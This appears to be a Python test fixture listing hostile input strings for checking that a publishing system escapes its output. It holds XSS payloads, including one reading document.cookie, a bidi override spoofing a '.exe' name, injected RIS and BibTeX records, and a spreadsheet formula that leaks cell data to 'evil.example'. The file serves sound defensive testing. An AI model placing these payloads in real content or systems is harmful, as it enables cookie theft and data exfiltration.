"""Hostile text: the strings a careless or malicious editor (or a copied document) can put into any
field that reaches the public. One list, shared by every test that runs them through an output.

`HOSTILE` names each string; `value_for(field_length, lead=...)` packs the corpus into one value that
fits a field (`lead` first, so each field can start with a different formula prefix).
"""

MARKUP = '<script>alert(1)</script> "><img src=x onerror=alert(1)>'
ATTRIBUTE = "' onmouseover='alert(1)' x=\""
JAVASCRIPT_URL = "javascript:alert(document.cookie)"
# Right-to-left override and friends: reorder whatever follows them unless isolated or removed.
BIDI = "evil \u202etxt.exe\u202c \u202a\u202b\u202d \u2066\u2067\u2068 isolate \u2069 marks \u200e\u200f"
# A new line that starts a new RIS record or a new BibTeX entry.
RIS_RECORD = "Title\r\nER  - \nTY  - JOUR\nUR  - javascript:alert(1)\nER  - \n"
BIBTEX_ENTRY = "Title},\n}\n@misc{injected,\n  title = {Injected"
NUL = "nul\x00byte"
CONTROL = "bell\x07 escape\x1b[31m vertical\x0btab\x85next line\u2028separator"
# Cells that a spreadsheet program runs as a formula (OWASP "CSV injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
URDU = "پانی صاف کرنے کا پلانٹ، کوئٹہ"
LONG = "A" * 10_000

HOSTILE = {
    "markup": MARKUP,
    "attribute": ATTRIBUTE,
    "javascript_url": JAVASCRIPT_URL,
    "bidi": BIDI,
    "ris_record": RIS_RECORD,
    "bibtex_entry": BIBTEX_ENTRY,
    "nul": NUL,
    "control": CONTROL,
    "formula": FORMULA,
    "urdu": URDU,
    "long": LONG,
}

BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
RAW_MARKUP = ("<script", "<img", "onerror=", "onmouseover=", 'href="javascript:', "href='javascript:")


def value_for(max_length=None, *, lead="", with_nul=True):
    """The corpus packed into one value of at most `max_length` characters, starting with `lead`: the
    short strings first (so every field gets the dangerous ones), the 10,000 characters last."""
    parts = [lead + MARKUP, BIDI, RIS_RECORD, BIBTEX_ENTRY, ATTRIBUTE, JAVASCRIPT_URL, CONTROL, URDU, FORMULA]
    if with_nul:
        parts.insert(3, NUL)
    value = " ".join(parts) + " " + LONG
    return value[:max_length] if max_length else value
